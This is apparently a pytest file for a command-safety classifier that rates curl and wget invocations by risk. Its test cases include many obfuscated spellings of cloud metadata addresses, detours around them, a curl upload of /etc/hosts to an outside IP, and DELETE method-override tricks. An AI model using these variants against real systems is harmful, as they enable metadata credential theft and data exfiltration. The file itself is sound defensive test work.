"""URLs in every spelling, and what a request takes along."""

import pytest

from walissh.react.turn import Risk
from walissh.safety import clients
from walissh.safety.clients import urls
from walissh.safety.clients.told import Told


def _curl(*args: str, fed: bool = False) -> Told:
    told = clients.judge("curl", args, fed=fed)
    assert told is not None
    return told


@pytest.mark.parametrize(
    "host",
    [
        "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
        "0xa9.254.0xa9fe", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]",
        "[64:ff9b::a9fe:a9fe]", "169.254.169.254.", "user@169.254.169.254", "169。254。169。254",
        "metadata.google.internal", "METADATA.google.internal.", "169.254.169.254.nip.io",
        "100.100.100.200", "169.254.170.2",
    ],
)  # fmt: skip
def test_the_metadata_address_is_known_in_every_spelling(host: str) -> None:
    target = urls.target(f"http://{host}/latest/user-data")
    assert target is not None
    assert target.metadata


@pytest.mark.parametrize("host", ["localhost", "10.0.0.7", "[::1]", "app.internal", "es1", "127.1"])
def test_an_inner_host_is_inner_and_no_metadata(host: str) -> None:
    target = urls.target(f"http://{host}:8080/")
    assert target is not None
    assert target.internal
    assert not target.metadata


@pytest.mark.parametrize("host", ["example.com", "203.0.113.9", "8.8.8.8", "[2606:4700::1111]"])
def test_a_host_elsewhere_is_not_inner(host: str) -> None:
    target = urls.target(f"http://{host}/")
    assert target is not None
    assert not target.internal


@pytest.mark.parametrize(
    "path",
    ["/api/v1/secrets", "//api//v1/./secrets", "/api/v1/%73ecrets", "/api/x/../v1/secrets",
     "/api/v1/{pods,secrets}", "/api/v1/secret[r-t]"],
)  # fmt: skip
def test_a_path_of_secrets_is_known_in_every_spelling(path: str) -> None:
    assert _curl("-s", f"localhost:8001{path}").risk is Risk.SECRET_EXPOSURE


def test_data_of_the_machine_that_goes_elsewhere_is_exposed() -> None:
    told = _curl("-d", "@/etc/hosts", "http://203.0.113.9/")
    assert (told.risk, told.code) == (Risk.SECRET_EXPOSURE, "sends_away")


def test_a_query_file_for_the_own_search_engine_only_asks() -> None:
    told = _curl("-s", "-XPOST", "localhost:9200/a/_search", "-d", "@query.json")
    assert (told.risk, told.shown) == (Risk.READ_ONLY, ("query.json",))


def test_what_is_not_known_yet_and_goes_elsewhere_is_data_sent_away() -> None:
    assert _curl("-s", "https://collect.example.net/?h=\0").risk is Risk.SECRET_EXPOSURE
    assert _curl("-s", "http://localhost:9200/app-\0/_count").risk is Risk.OPAQUE


def test_a_file_url_shows_the_file() -> None:
    assert _curl("-s", "file://localhost/etc/app%2Fx.conf").shown == ("/etc/app/x.conf",)


@pytest.mark.parametrize(
    "args",
    [("-XDELETE",), ("-X", "delete"), ("-sXDELETE",), ("-G", "-XDELETE"), ("--request=DELETE",),
     ("-X", "POST", "-H", "x-http-method-override: delete"), ("-s", "--next", "-XDELETE")],
)  # fmt: skip
def test_deleting_is_destructive_however_it_is_asked_for(args: tuple[str, ...]) -> None:
    assert _curl(*args, "http://localhost/a").risk is Risk.DESTRUCTIVE


@pytest.mark.parametrize(
    "args",
    [("-o", "f"), ("-of",), ("-so", "f"), ("-O",), ("-sLO",), ("-J", "-O"), ("-D", "f"),
     ("-c", "f"), ("--trace", "f"), ("--stderr", "f"), ("--libcurl", "f"), ("--hsts", "f"),
     ("-w", "%output{f}x"), ("--etag-save", "f"), ("--alt-svc", "f")],
)  # fmt: skip
def test_whatever_writes_a_file_changes_the_machine(args: tuple[str, ...]) -> None:
    assert _curl(*args, "http://localhost/").risk is Risk.MUTATING


def test_writing_to_the_output_or_to_nowhere_changes_nothing() -> None:
    args = ("-s", "-D", "-", "-o", "/dev/null", "-w", "%{http_code}", "http://localhost/")
    assert _curl(*args).risk is Risk.READ_ONLY


def test_a_user_without_a_password_would_be_asked_for_one() -> None:
    assert _curl("-u", "admin", "http://localhost/").interactive


def test_a_stream_with_a_time_limit_ends() -> None:
    url = "http://localhost:8001/api/v1/pods?watch=true"
    assert _curl(url).interactive
    assert not _curl("-m", "5", url).interactive


def test_wget_writes_a_file_unless_told_otherwise() -> None:
    told = [clients.judge("wget", args, fed=False) for args in (
        ("http://localhost/a",), ("-qO-", "http://localhost/a"), ("--spider", "http://localhost/a"),
    )]  # fmt: skip
    assert [each.risk for each in told if each] == [
        Risk.MUTATING, Risk.READ_ONLY, Risk.READ_ONLY,
    ]  # fmt: skip


@pytest.mark.parametrize(
    "args",
    [("http://169.254.169.25[3-5]/latest/user-data",),
     ("--connect-to", "::2852039166:80", "http://x/"),
     ("--resolve", "x:80:[fd00:ec2::254]", "http://x/"),
     ("-x", "http://169.254.169.254:80", "http://x/")],
)  # fmt: skip
def test_the_metadata_address_is_found_behind_ranges_and_detours(args: tuple[str, ...]) -> None:
    assert _curl(*args).risk is Risk.SECRET_EXPOSURE
